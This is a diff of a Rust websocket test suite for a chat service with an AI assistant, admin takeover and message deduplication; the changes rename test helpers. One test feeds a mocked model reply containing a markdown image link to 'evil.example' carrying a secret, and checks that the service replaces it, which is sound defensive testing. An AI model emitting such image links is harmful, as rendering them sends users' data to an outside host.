@@ -4,7 +4,7 @@ use reqwest::Method;
 use serde_json::{Value, json};
 
 use crate::support::chat::{Chat, FRAMES, handshake};
-use crate::support::model::{Model, saying};
+use crate::support::model::{Model, completion_of};
 use crate::support::{Api, Installation, Server, eventually};
 
 struct Fixture {
@@ -111,7 +111,7 @@ async fn ws_04_what_was_missed_is_replayed_in_order() {
     let f = fixture("").await;
     let mut chat = f.open().await;
     for n in 1..=150 {
-        chat.say(&format!("00000000-0000-4000-8000-{n:012}"), &format!("message {n}")).await;
+        chat.send_message(&format!("00000000-0000-4000-8000-{n:012}"), &format!("message {n}")).await;
         while chat.next().await["type"] != "ai_reply" {}
     }
     // A new connection sees the last ten, and the rest on demand, page by page.
@@ -134,8 +134,8 @@ async fn ws_07_a_message_sent_again_is_one_message() {
     let id = "00000000-0000-4000-8000-000000000001";
     let (mut one, mut other) = (f.open().await, f.open().await);
     for _ in 0..3 {
-        one.say(id, "Am I a fit?").await;
-        other.say(id, "Am I a fit?").await;
+        one.send_message(id, "Am I a fit?").await;
+        other.send_message(id, "Am I a fit?").await;
     }
     for chat in [&mut one, &mut other] {
         let mut acknowledged = 0;
@@ -154,27 +154,27 @@ async fn ws_07_a_message_sent_again_is_one_message() {
 #[tokio::test]
 async fn ws_07_what_is_said_again_or_in_a_hurry_is_not_paid_for_again() {
     let model = Model::start().await;
-    model.answers(saying("Now I answer.")).await;
-    let (gate, config) = model.behind_a_gate().await;
+    model.answers(completion_of("Now I answer.")).await;
+    let (proxy, config) = model.behind_a_proxy().await;
     let f = fixture(&config).await;
     let mut chat = f.open().await;
     let id = |n: u32| format!("00000000-0000-4000-8000-{n:012}");
     // While the model thinks about the first message, all the others get on record.
-    gate.block_answers();
-    chat.say(&id(1), "message 1").await;
+    proxy.stall_responses();
+    chat.send_message(&id(1), "message 1").await;
     chat.expect("ack").await;
-    eventually("the model to be asked", async || (!model.asked().await.is_empty()).then_some(())).await;
+    eventually("the model to be asked", async || (!model.requests().await.is_empty()).then_some(())).await;
     let hurried = [1, 1, 2, 3, 4, 5, 5];
     for n in hurried {
-        chat.say(&id(n), &format!("message {n}")).await;
+        chat.send_message(&id(n), &format!("message {n}")).await;
     }
     for _ in hurried {
         chat.expect("ack").await;
     }
-    gate.unblock();
+    proxy.resume();
     chat.expect("ai_reply").await;
     assert_eq!(roles(&f.record().await), ["user", "user", "user", "user", "user", "assistant"]);
-    assert_eq!(model.asked().await.len(), 2, "about the first message, and then about all of them");
+    assert_eq!(model.requests().await.len(), 2, "about the first message, and then about all of them");
 }
 
 #[tokio::test]
@@ -306,7 +306,7 @@ async fn ws_13_broken_frames_are_answered_and_endless_ones_end_the_connection() 
 #[tokio::test]
 async fn a_model_answers_and_the_reply_says_so() {
     let model = Model::start().await;
-    model.answers(saying("You would fit well.")).await;
+    model.answers(completion_of("You would fit well.")).await;
     let f = fixture(&model.config()).await;
     let mut chat = f.open().await;
     chat.send_text("Am I a fit?").await;
@@ -322,8 +322,8 @@ async fn a_model_that_fails_or_sends_links_is_replaced_by_rules() {
     for answer in [
         wiremock::ResponseTemplate::new(500),
         wiremock::ResponseTemplate::new(200).set_body_string("{\"choices\": ["),
-        saying("Look: ![x](https://evil.example/?secret)"),
-        saying("  "),
+        completion_of("Look: ![x](https://evil.example/?secret)"),
+        completion_of("  "),
     ] {
         model.answers(answer).await;
         chat.send_text("hello").await;
@@ -336,18 +336,18 @@ async fn a_model_that_fails_or_sends_links_is_replaced_by_rules() {
 #[tokio::test]
 async fn ws_10_nothing_the_assistant_was_about_to_say_appears_after_a_takeover() {
     let model = Model::start().await;
-    model.answers(saying("too late")).await;
-    let (gate, config) = model.behind_a_gate().await;
+    model.answers(completion_of("too late")).await;
+    let (proxy, config) = model.behind_a_proxy().await;
     let f = fixture(&format!("[log]\nfilter = \"info,domain_chat=debug\"\n{config}")).await;
     let mut chat = f.open().await;
-    gate.block_answers();
+    proxy.stall_responses();
     chat.send_text("Am I a fit?").await;
-    eventually("the model to be asked", async || (!model.asked().await.is_empty()).then_some(())).await;
+    eventually("the model to be asked", async || (!model.requests().await.is_empty()).then_some(())).await;
     f.admin.post("/admin/takeover", json!({"session_id": f.session})).await.ok();
     chat.expect("admin_takeover").await;
     // While the model answers and long after, only people speak.
-    gate.unblock();
-    model.answers(saying("never asked")).await;
+    proxy.resume();
+    model.answers(completion_of("never asked")).await;
     for n in 0..20 {
         f.admin.post(&f.tower("/message"), json!({"content": format!("{n}")})).await.ok();
         assert_eq!(chat.expect("admin_message").await["content"], format!("{n}"));
@@ -363,7 +363,7 @@ async fn ws_10_nothing_the_assistant_was_about_to_say_appears_after_a_takeover()
     // Handed back, the assistant answers what is asked from then on, not what was a person's to answer.
     f.admin.post(&f.tower("/release"), json!({})).await.ok();
     chat.expect("system_notification").await;
-    model.answers(saying("Now I answer.")).await;
+    model.answers(completion_of("Now I answer.")).await;
     chat.send_text("Still there?").await;
     assert_eq!(chat.expect("ai_reply").await["content"], "Now I answer.");
     assert_eq!(roles(&f.record().await).iter().filter(|role| **role == "assistant").count(), 1);
